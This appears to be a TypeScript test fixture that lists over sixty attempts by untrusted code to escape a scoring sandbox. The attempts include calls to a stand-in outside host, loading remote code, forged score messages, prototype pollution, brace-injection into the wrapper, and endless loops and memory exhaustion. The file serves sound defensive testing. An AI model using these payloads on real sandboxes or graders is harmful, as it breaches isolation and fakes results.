/** An attempt of a reader's program to get out. The body of `score`; it returns [1] when it believes it is out. */
export interface Escape {
  readonly name: string;
  readonly body: string;
  /** What stands before the function. */
  readonly top?: string;
}

/** In the attempts: where nothing may arrive. The test puts in the address of a listener. */
export const OUTSIDE = 'OUTSIDE';

const later = (code: string) => `(async () => { ${code} })(); return [0];`;

/** Forty ways out, none of which is one. Each also leaves a mark where it can, which the next run looks for. */
export const escapes: readonly Escape[] = [
  { name: 'fetch', body: later(`await fetch('http://${OUTSIDE}/fetch')`) },
  { name: 'fetch from the own site', body: later(`await fetch('/escaped')`) },
  {
    name: 'XMLHttpRequest',
    body: `const x = new XMLHttpRequest(); x.open('GET', 'http://${OUTSIDE}/xhr', false); x.send(); return [1];`,
  },
  { name: 'WebSocket', body: `new WebSocket('ws://${OUTSIDE}'); return [1];` },
  { name: 'EventSource', body: `new EventSource('http://${OUTSIDE}/events'); return [1];` },
  { name: 'WebTransport', body: `new WebTransport('https://${OUTSIDE}'); return [1];` },
  {
    name: 'RTCPeerConnection',
    body: `new RTCPeerConnection({ iceServers: [{ urls: 'stun:${OUTSIDE}' }] }); return [1];`,
  },
  { name: 'sendBeacon', body: `return [navigator.sendBeacon('http://${OUTSIDE}/beacon') ? 1 : 0];` },
  { name: 'importScripts', body: `importScripts('http://${OUTSIDE}/script.js'); return [1];` },
  { name: 'importScripts of data', body: `importScripts('data:text/javascript,1'); return [1];` },
  { name: 'import() of an address', body: later(`await import('http://${OUTSIDE}/module.js'); globalThis.isOut = 1;`) },
  { name: 'import() of data', body: later(`await import('data:text/javascript,fetch("http://${OUTSIDE}/data")')`) },
  {
    name: 'import() of a blob',
    body: later(`const u = URL.createObjectURL(new Blob(['fetch("http://${OUTSIDE}/blob")'])); await import(u);`),
  },
  {
    name: 'import() of the own script',
    body: later(`const u = /blob:[^\\s):]+:?[^\\s):]*/.exec(new Error().stack)[0]; await import(u);`),
  },
  { name: 'localStorage', body: `localStorage.setItem('escaped', '1'); return [1];` },
  { name: 'sessionStorage', body: `sessionStorage.setItem('escaped', '1'); return [1];` },
  { name: 'IndexedDB', body: `indexedDB.open('escaped'); return [1];` },
  { name: 'caches', body: later(`await caches.open('escaped')`) },
  { name: 'cookies', body: `document.cookie = 'escaped=1'; return [1];` },
  { name: 'the cookie store', body: later(`await cookieStore.set('escaped', '1')`) },
  { name: 'the private file system', body: later(`await navigator.storage.getDirectory()`) },
  { name: 'parent', body: `parent.document.title = 'escaped'; return [1];` },
  { name: 'top', body: `top.location = 'http://${OUTSIDE}/top'; return [1];` },
  { name: 'the document', body: `document.body.innerHTML = 'escaped'; return [1];` },
  { name: 'a window', body: `open('http://${OUTSIDE}/window'); return [1];` },
  {
    name: 'a forged answer',
    body: `postMessage('={"ok":true,"output":{"scores":[1]},"state":null,"logs":[]}'); return [0];`,
  },
  {
    name: 'a forged answer by way of the prototype',
    body: `Object.getPrototypeOf(Object.getPrototypeOf(globalThis)).constructor.prototype.postMessage.call(globalThis, '=1'); return [1];`,
  },
  { name: 'a flood of messages', body: `for (let i = 0; i < 1e5; i++) globalThis.postMessage(i); return [1];` },
  { name: 'BroadcastChannel', body: `new BroadcastChannel('escaped').postMessage('escaped'); return [1];` },
  { name: 'another message handler', body: `self.onmessage = () => {}; onmessage = () => {}; return [1];` },
  { name: 'listening in', body: `addEventListener('message', (e) => { e.stopImmediatePropagation(); }); return [1];` },
  { name: 'a worker in the worker', body: `new Worker('data:text/javascript,1'); return [1];` },
  { name: 'eval', body: `return [eval('1')];` },
  { name: 'eval, indirectly', body: `return [(0, globalThis.eval)('1')];` },
  { name: 'Function', body: `return [(() => {}).constructor('return 1')()];` },
  {
    name: 'a generator of code',
    body: `return [Object.getPrototypeOf(function* () {}).constructor('yield 1')().next().value];`,
  },
  { name: 'a timer with text', body: `setTimeout('postMessage(1)', 0); setInterval(() => {}, 0); return [1];` },
  { name: 'WebAssembly', body: `new WebAssembly.Module(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0])); return [1];` },
  {
    name: 'shared memory as a clock',
    body: `const cell = new SharedArrayBuffer(4); Atomics.wait(new Int32Array(cell), 0, 0, 1e6); return [1];`,
  },
  {
    name: 'the real time',
    body: `const D = Object.getPrototypeOf(Date); return [D.now() > 1.7e12 || performance.now() > 0 ? 1 : 0];`,
  },
  {
    name: 'the real time, from a date',
    body: `const D = Object.getPrototypeOf(Object.getPrototypeOf(new Date())).constructor; return [new D() > 0 ? 1 : 0];`,
  },
  { name: 'real chance', body: `return [crypto.getRandomValues(new Uint8Array(1)).length];` },
  { name: 'pollution of Object', body: `Object.prototype.isOut = 1; ({}).__proto__.isOut = 1; return [1];` },
  { name: 'pollution of Array', body: `Array.prototype.map = () => [1]; return [1];` },
  { name: 'pollution of JSON', body: `JSON.stringify = () => '{"ok":true}'; JSON.parse = () => ({}); return [1];` },
  {
    name: 'pollution by what is given back',
    body: `api.state = JSON.parse('{"__proto__":{"isOut":1},"constructor":{"prototype":{"isOut":1}}}'); return [0];`,
  },
  { name: 'toJSON', body: `return { length: 1, toJSON: () => [1], 0: 1 };` },
  {
    name: 'a getter that answers twice',
    body: `let n = 0; api.state = { get a() { return n++ ? globalThis : 1; } }; return [0];`,
  },
  { name: 'a global left behind', body: `globalThis.isOut = 1; return [1];` },
  { name: 'a variable left behind', top: `let calls = 0;`, body: `calls += 1; return [calls > 1 ? 1 : 0];` },
  { name: 'a brace too many', top: `}, globalThis.postMessage('=1'), function () {`, body: `return [1];` },
  {
    name: 'another first program',
    top: `}); __lab((exports) => { exports.score = () => [1]; }); (function (exports) {`,
    body: `return [0];`,
  },
  { name: 'an endless loop', body: `for (;;) {}` },
  { name: 'an endless loop that catches', body: `for (;;) { try { for (;;) {} } catch {} finally { for (;;) {} } }` },
  { name: 'recursion', body: `const f = () => [f(), f()]; try { f(); } catch {} return [0];` },
  { name: 'a flood of microtasks', body: `const f = async () => { for (;;) await 0; }; f(); f(); return [0];` },
  { name: 'a native that does not end', body: `return [/^(a+)+$/.test('a'.repeat(40) + 'b') ? 1 : 0];` },
  { name: 'memory, in steps', body: `const a = []; for (;;) a.push(new Array(1e6).fill(a.length));` },
  { name: 'memory, at once', body: `let s = 'x'; for (;;) { s += s; s.split(''); }` },
  { name: 'memory, in matches', body: `let s = 'x'; for (;;) { s += s; s.match(/./g); s.replace(/./g, 'yy'); }` },
  { name: 'memory, spread', body: `let s = 'x'; for (;;) { s += s; [...s]; }` },
  { name: 'memory, in buffers', body: `const a = []; for (;;) a.push(new ArrayBuffer(1e9), new Uint8Array(1e9));` },
  { name: 'an answer without end', body: `api.state = 'x'.repeat(1e7); return [0];` },
  {
    name: 'an answer without bottom',
    body: `let a = []; for (let i = 0; i < 1e5; i++) a = [a]; api.state = a; return [0];`,
  },
  { name: 'a log without end', body: `for (let i = 0; i < 1e5; i++) console.log('x'.repeat(100)); return [0];` },
];
